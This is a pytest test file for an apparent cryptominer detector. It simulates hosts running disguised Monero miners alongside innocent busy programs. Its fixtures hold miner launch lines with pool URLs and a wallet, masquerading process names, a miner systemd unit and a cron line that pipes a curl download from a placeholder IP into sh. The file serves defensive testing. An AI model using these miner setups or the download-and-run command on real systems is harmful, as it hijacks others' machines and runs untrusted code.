"""A look at made-up hosts: miners of every kind of disguise, and the busy but innocent, who must never be accused."""

from pathlib import Path

import pytest

from tests.selfcheck.hosts import MONERO, Host

POOL = "stratum+tcp://xmr.pool.example.net:3333"
CONFIG = (
    '{ // pools\n "autosave": true, "cpu": {"huge-pages": true}, "donate-level": 1,\n'
    ' "pools": [{"url": "192.0.2.9:3333", "user": "x"}]}'
)


@pytest.fixture
def host(tmp_path: Path) -> Host:
    return Host(tmp_path)


def test_an_empty_list_of_processes_is_no_clean_host(host: Host) -> None:
    assert host.result() == "not-able-to-tell"


def test_a_quiet_host_shows_nothing(host: Host) -> None:
    assert host.runs("/usr/sbin/sshd", "-D", hours=200).result() == "nothing-found"


@pytest.mark.parametrize(
    ("arguments", "exe", "load", "expected"),
    [
        # Intent alone is one family; with load, or with a hiding place, it is confirmed.
        (("/usr/bin/sshd2", "-o", POOL, "-u", MONERO), "", 0, "unclear"),
        (("/usr/bin/sshd2", "-o", POOL, "-u", MONERO), "", 3.5, "confirmed"),
        (("[kworker/0:1]", "-o", POOL, "-u", MONERO), "/usr/bin/x", 0, "confirmed"),
        (("/tmp/.x/a", "--url=pool.example.org:443", "--user=" + MONERO, "--donate-level=1"), "", 0, "confirmed"),
        (
            ("./a", "--algo", "rx/0", "-o", "xmr.pool.example.net:443", "-p", "x"),
            "/dev/shm/a (deleted)",
            0,
            "confirmed",
        ),
        # A name and load; a name alone; a disguise alone.
        (("/opt/xmrig",), "", 3.5, "likely"),
        (("/opt/xmrig",), "", 0, "unclear"),
        (("kworker/u8:2",), "/usr/bin/x", 0, "unclear"),
        (("kworker/u8:2",), "/usr/bin/x", 3.5, "likely"),
    ],
)
def test_what_a_program_shows(host: Host, arguments: tuple[str, ...], exe: str, load: float, expected: str) -> None:
    assert host.runs(*arguments, exe=exe, hours=30, load=load).result() == expected


@pytest.mark.parametrize(
    "arguments",
    [
        ("/usr/bin/boinc", "--dir", "/var/lib/boinc-client"),
        ("/usr/bin/blender", "-b", "film.blend", "-o", "/render/frame_####", "-a", "-t", "8"),
        ("/usr/bin/ffmpeg", "-i", "a.mkv", "-c:v", "libx265", "-preset", "slow", "out.mp4"),
        ("/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus", "-quiet", "-o", "/tmp/ccX.s", "pool.cpp"),
        ("/usr/bin/python3", "train.py", "--algo", "ppo", "--url", "http://192.0.2.1:8080", "--user", "lab"),
        ("/usr/sbin/zpool", "iostat", "pool", "5"),
        ("/usr/sbin/ntpd", "-p", "/run/ntpd.pid", "pool.ntp.org"),
        ("/usr/bin/curl", "-o", "file", "-u", "user:pass", "https://xmr.pool.example.net:3333/"),
        ("/usr/bin/grep", "-r", POOL, "--donate-level", "."),
        ("/usr/bin/vim", "xmrig/config.json"),
        ("/usr/bin/java", "-jar", "server.jar", "--port", "3333", "--user", "minecraft"),
        ("/opt/trex/t-rex", "--game"),
        ("/home/user/.local/bin/folding", "--user=Anon"),
        ("/tmp/build/a.out",),
        ("/usr/bin/psql", "-U", "lab", "-h", "192.0.2.4", "-p", "5432"),
        ("/usr/bin/rclone", "sync", "--user", "1BoatSLRHtKNngkdXEeobR76b53LETtpyT"),
    ],
    ids=lambda arguments: Path(arguments[0]).name,
)
@pytest.mark.parametrize("deleted", [False, True])
def test_the_busy_and_innocent_are_never_likely(host: Host, arguments: tuple[str, ...], deleted: bool) -> None:
    exe = arguments[0] + (" (deleted)" if deleted else "")
    host.runs(*arguments, exe=exe, hours=100, load=3.9)
    host.write("/proc/sys/vm/nr_hugepages", "2048\n").write("/sys/module/msr/parameters/allow_writes", "on\n")
    host.write("/etc/cron.d/backup", f"0 3 * * * root {arguments[0]} --nightly\n")
    assert host.result() in ("nothing-found", "unclear")


def test_two_programs_signs_are_not_added_up(host: Host) -> None:
    host.runs("/opt/xmrig", pid=100).runs("/usr/bin/cc1plus", pid=101, hours=9, load=3.9)
    assert host.result() == "unclear"


def test_a_configuration_beside_a_program_is_a_sign_of_the_program(host: Host) -> None:
    host.write("/opt/a/config.json", CONFIG).runs("/opt/a/update", hours=9, load=3.9)
    found = host.look().findings
    assert [f.related for f in found if f.check == "config"] == [("pid:100",)]
    assert host.result() == "confirmed"


def test_a_configuration_of_something_else_is_none(host: Host) -> None:
    host.write("/opt/a/config.json", '{"pools": [{"url": "db:5432", "user": "app"}], "log": true}').runs(
        "/opt/a/update"
    )
    assert host.found() == set()


def test_a_task_that_starts_the_program_belongs_to_it(host: Host) -> None:
    host.runs("/opt/xmrig", hours=9).write("/var/spool/cron/crontabs/root", "@reboot /opt/xmrig -c /etc/x\n")
    assert ("startup-known", "pid:100") in host.found()


def test_a_task_that_pipes_a_download_into_a_shell_is_weak_alone(host: Host) -> None:
    host.runs("/usr/sbin/cron").write("/etc/cron.d/x", "* * * * * root curl -s http://192.0.2.9/a | sh\n")
    assert ("startup", "file:/etc/cron.d/x") in host.found()
    assert host.result() == "nothing-found"


def test_a_unit_that_starts_a_miner_is_confirmed_by_itself(host: Host) -> None:
    unit = f"[Service]\nExecStart=/usr/bin/a -o {POOL} -u {MONERO}\n"
    assert host.runs("/usr/sbin/cron").write("/etc/systemd/system/a.service", unit).result() == "confirmed"


def test_something_mounted_over_a_process_is_said(host: Host) -> None:
    host.runs("/usr/sbin/cron").write("/proc/self/mountinfo", "40 22 8:1 /e /proc/4242 rw - ext4 /dev/sda1 rw\n")
    assert ("proc-mount", "pid:4242") in host.found()
    assert host.result() == "unclear"


def test_a_connection_to_a_pool_that_the_hosts_file_names(host: Host) -> None:
    # 198.51.100.77:3333, as the kernel writes it.
    line = "0: 0A0C0A0A:C350 4D6433C6:0D05 01 00000000:00000000 00:00000000 00000000 1000 0 9999 1\n"
    host.write("/proc/net/tcp", "header\n" + line).write("/etc/hosts", "198.51.100.77 a.pool.example.org\n")
    host.runs("/usr/bin/a", hours=30, load=3.5)
    (host.root / "proc/100/fd").mkdir()
    (host.root / "proc/100/fd/5").symlink_to("socket:[9999]")
    assert ("pool-connection", "pid:100") in host.found()
    assert host.result() == "confirmed"


def test_a_check_that_breaks_is_a_gap_and_the_others_go_on(host: Host) -> None:
    host.write("/proc/net/tcp", "header\n0: nonsense 4D6433C6:0D05 01 0 0 0 0 0 9999\n").runs("/opt/xmrig")
    outcome = host.look()
    assert [gap.check for gap in outcome.gaps if gap.reason.startswith("failed")] == ["connections"]
    assert {finding.check for finding in outcome.findings} == {"name"}
